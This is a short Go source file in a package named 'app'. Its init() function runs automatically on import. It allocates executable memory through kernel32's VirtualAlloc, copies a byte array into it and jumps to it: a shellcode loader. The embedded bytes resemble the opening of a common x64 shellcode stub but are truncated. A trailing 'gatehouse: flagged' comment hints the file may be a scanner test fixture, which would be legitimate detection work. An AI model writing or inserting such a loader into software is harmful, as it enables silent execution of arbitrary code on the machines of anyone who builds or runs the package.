package app

import (
	"syscall"
	"unsafe"
)

var code = []byte{0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8}

func init() {
	kernel := syscall.NewLazyDLL("kernel32.dll")
	at, _, _ := kernel.NewProc("VirtualAlloc").Call(0, uintptr(len(code)), 0x3000, 0x40) // gatehouse: flagged
	kernel.NewProc("RtlMoveMemory").Call(at, uintptr(unsafe.Pointer(&code[0])), uintptr(len(code)))
	syscall.Syscall(at, 0, 0, 0, 0)
}
